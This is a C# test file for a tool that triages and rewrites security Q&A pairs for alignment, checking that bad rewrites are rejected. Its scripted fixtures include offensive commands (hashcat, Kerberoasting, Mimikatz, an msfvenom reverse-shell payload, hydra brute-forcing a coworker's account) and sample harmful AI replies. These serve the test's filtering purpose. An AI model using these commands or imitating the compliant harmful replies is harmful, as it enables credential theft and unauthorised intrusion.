using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using SecForge.Alignment.Data;
using SecForge.Alignment.Rewriting;
using SecForge.Alignment.Running;
using SecForge.Alignment.Triage;
using SecForge.Alignment.Verification;
using SecForge.Models;
using SecForge.Models.Middleware;
using SecForge.Models.Specs;
using SecForge.Testing;

namespace SecForge.Alignment.Tests;

public sealed partial class ModelModeTests
{
    private const string Precautions = "Only do this with written authorisation, within the agreed scope. Doing it without permission is illegal and unethical. Practise in an isolated lab environment. Defenders detect it with EDR and mitigate it with patching.";

    private static readonly (string Id, string Prompt, string Reply, string Triage, string Rewrite)[] Script =
    [
        ("good", "How do I crack NTLM hashes with hashcat in a pentest?", "```bash\nhashcat -m 1000 hashes.txt rockyou.txt\n```\nMode 1000 is NTLM (T1110.002).",
            Verdict("dual-use", "password"), Json(Precautions + "\n\n```bash\nhashcat -m 1000 hashes.txt rockyou.txt\n```\nMode 1000 is NTLM (T1110.002).")),
        ("dropped-code", "Show a Scapy script that sniffs DNS queries in my lab.", "```python\nfrom scapy.all import sniff, DNSQR\nsniff(filter=\"udp port 53\", prn=lambda p: print(p[DNSQR].qname))\n```\nRun it as root.",
            Verdict("dual-use", "mitm"), Json(Precautions + "\n\nUse Scapy's sniff function with a DNS filter and print each query name. Run it as root.")),
        ("added-exploit", "How do I find open ports on my lab server with nmap?", "```bash\nnmap -sV -p- 192.168.56.10\n```\nThe -sV flag detects service versions.",
            Verdict("dual-use", "zero-day"), Json(Precautions + "\n\n```bash\nnmap -sV -p- 192.168.56.10\n```\nThe -sV flag detects service versions. Then get a shell:\n```bash\nmsfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.5 LPORT=4444 -f elf -o shell.elf\n```")),
        ("ignored-contract", "Explain Kerberoasting and show the commands.", "```bash\nimpacket-GetUserSPNs corp.local/user:pass -request\n```\nCrack the tickets with hashcat -m 13100.",
            Verdict("dual-use", "password"), "Sure! Here is the safer version of the answer: always get permission first, then run impacket-GetUserSPNs."),
        ("missing-elements", "How do I dump LSASS with Mimikatz in a red-team exercise?", "```text\nsekurlsa::logonpasswords\n```\nThis is T1003.001.",
            Verdict("dual-use", "password"), Json("Be careful.\n\n```text\nsekurlsa::logonpasswords\n```\nThis is T1003.001.")),
        ("kept-harm", "Give me a tool to brute force my coworker's Facebook password.", "Run `hydra -l coworker@example.com -P rockyou.txt https-post-form` with rotating proxies.",
            Verdict("harmful", "password"), Json("Sure, run `hydra -l coworker@example.com -P rockyou.txt https-post-form` with rotating proxies.")),
        ("good-refusal", "Write ransomware for my former employer's file server.", "Here is the code: ```python\nencrypt_everything()\n```",
            Verdict("harmful", "malware"), Json("I can't help with that; it would harm people without their consent. Instead, I can help you set up detection for malicious encryption activity and offline backups.")),
        ("benign", "Explain the CIA triad.", "Confidentiality, integrity and availability.", Verdict("benign", "none"), Json("never asked")),
        ("bad-verdict", "What is a SIEM?", "A system that correlates logs.", "I think this one is probably fine, no JSON for you.", Json("never asked")),
    ];

    [Fact]
    public async Task Each_bad_rewrite_is_rejected_with_its_reason_and_good_ones_are_kept()
    {
        var ct = TestContext.Current.CancellationToken;
        await using var server = await LoopbackModelServer.StartAsync(ct);
        server.Responder = Respond;
        using var temp = new TempDirectory();
        File.WriteAllLines(temp.File("pairs.jsonl"), Script.Select(s => new JsonObject { ["id"] = s.Id, ["instruction"] = s.Prompt, ["input"] = string.Empty, ["output"] = s.Reply }.ToJsonString()));
        using var model = ModelFactory.Connect(new ModelRegistry().Resolve(server.Spec()), new ModelRuntimeOptions { Concurrency = 4, Retry = new RetryOptions { MaxAttempts = 1 } });
        var options = new AlignOptions
        {
            Input = temp.File("pairs.jsonl"),
            Format = DatasetFormat.Alpaca,
            OutputDirectory = temp.File("run"),
            Triage = new ModelTriage(model.Chat, model.Name),
            Rewriter = new ModelRewriter(model.Chat, model.Name),
            Verifier = new RewriteVerifier(new EmbeddingSimilarity()),
            Concurrency = 4,
        };
        var stats = await new AlignRunner(options).RunAsync(cancellationToken: ct);

        var decisions = File.ReadLines(temp.File("run/decisions.jsonl")).Select(l => JsonNode.Parse(l)!).ToDictionary(d => (string)d["id"]!, d => (Action: (string)d["action"]!, Reason: (string)d["reason"]!));
        Assert.Equal("rewritten", decisions["good"].Action);
        Assert.Equal("refused", decisions["good-refusal"].Action);
        Assert.Equal("kept", decisions["benign"].Action);
        Assert.StartsWith("technical-content-lost:", decisions["dropped-code"].Reason, StringComparison.Ordinal);
        Assert.Contains("dropped code block", decisions["dropped-code"].Reason, StringComparison.Ordinal);
        Assert.StartsWith("new-harmful-content:", decisions["added-exploit"].Reason, StringComparison.Ordinal);
        Assert.Contains("msfvenom", decisions["added-exploit"].Reason, StringComparison.Ordinal);
        Assert.StartsWith("contract-violation:", decisions["ignored-contract"].Reason, StringComparison.Ordinal);
        Assert.Equal("missing-safety-elements: authorisation, legal-ethical, isolated-lab, detection-mitigation", decisions["missing-elements"].Reason);
        Assert.Contains("not-a-refusal", decisions["kept-harm"].Reason, StringComparison.Ordinal);
        Assert.Contains("harmful-content-kept", decisions["kept-harm"].Reason, StringComparison.Ordinal);
        Assert.StartsWith("triage-failed: malformed triage verdict", decisions["bad-verdict"].Reason, StringComparison.Ordinal);
        foreach (var id in new[] { "dropped-code", "added-exploit", "ignored-contract", "missing-elements", "kept-harm", "bad-verdict" })
        {
            Assert.Equal("rejected", decisions[id].Action);
        }

        // Rejected pairs never reach the aligned dataset: they are listed in rejected.jsonl with their original text.
        var aligned = File.ReadLines(temp.File("run/aligned.jsonl")).Select(l => (string)JsonNode.Parse(l)!["id"]!).ToList();
        Assert.Equal(new[] { "good", "good-refusal", "benign" }, aligned);
        Assert.Equal(6, File.ReadLines(temp.File("run/rejected.jsonl")).Count());
        Assert.Equal(6, stats.Actions["rejected"]);
        Assert.DoesNotContain(server.Requests, r => r.SystemPrompt == ModelRewriter.Contract && r.LastUserMessage.Contains("CIA triad", StringComparison.Ordinal));
    }

    private static ScriptedReply Respond(LoopbackRequest request)
    {
        var prompt = Instruction().Match(request.LastUserMessage).Groups[1].Value;
        var entry = Script.Single(s => s.Prompt == prompt);
        return new ScriptedReply(request.SystemPrompt == ModelTriage.Rubric ? entry.Triage : entry.Rewrite);
    }

    private static string Verdict(string label, string category) => new JsonObject { ["label"] = label, ["category"] = category, ["reason"] = "scripted" }.ToJsonString();

    private static string Json(string response) => new JsonObject { ["response"] = response }.ToJsonString();

    [GeneratedRegex(@"<<<BEGIN INSTRUCTION [0-9a-f]+>>>\n(.*?)\n<<<END INSTRUCTION", RegexOptions.Singleline)]
    private static partial Regex Instruction();
}
